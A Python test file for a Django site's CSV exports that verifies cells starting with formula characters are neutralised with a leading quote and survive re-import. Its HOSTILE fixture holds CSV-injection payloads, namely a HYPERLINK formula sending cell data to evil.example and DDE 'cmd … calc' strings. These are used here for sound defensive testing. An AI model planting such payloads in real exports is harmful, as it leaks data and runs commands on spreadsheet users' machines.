"""Every CSV the site writes neutralises cells that a spreadsheet would run as formulas."""

import csv
import io

import pytest

from contributions.services.editing import save_edit
from opendata.exports import CSV_KINDS
from pages.models import OrganizationPage, ToolPage, TopicPage, UseCasePage
from tests.factories import contributor

from .harvest import run, write

pytestmark = pytest.mark.django_db

MODELS = {"tool": ToolPage, "use_case": UseCasePage, "organization": OrganizationPage}
HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    "summary": "+cmd|' /C calc'!A0",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def rows_of(client, kind):
    response = client.get(f"/api/v1/export/{kind}.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text)))


def hostile_entry(kind):
    model = MODELS.get(kind, TopicPage)
    page = model.objects.live().filter(locale__language_code="en").first()
    save_edit(page, contributor(), dict(HOSTILE), summary="formula")
    return page


@pytest.mark.parametrize("url_kind", list(CSV_KINDS))
def test_formulas_in_every_csv_export_are_prefixed_with_a_quote(client, catalogue, url_kind):
    page = hostile_entry(CSV_KINDS[url_kind])
    row = next(r for r in rows_of(client, url_kind) if r["id"] == str(page.translation_key))
    assert row["name_en"] == "'" + HOSTILE["title"]
    assert row["summary_en"] == "'" + HOSTILE["summary"]
    assert row["description_en"] == "'" + HOSTILE["description"]
    every_cell = [cell for r in rows_of(client, url_kind) for cell in r.values()]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_a_neutralised_export_re_imports_as_the_original_text(tmp_path, client, catalogue):
    page = hostile_entry("tool")
    body = b"".join(client.get("/api/v1/export/tools.csv").streaming_content)
    output = run(write(tmp_path, "tools.csv", body.decode("utf-8")), "csv")
    assert "0 created, 0 updated" in output
    assert ToolPage.objects.get(pk=page.pk).title == HOSTILE["title"]
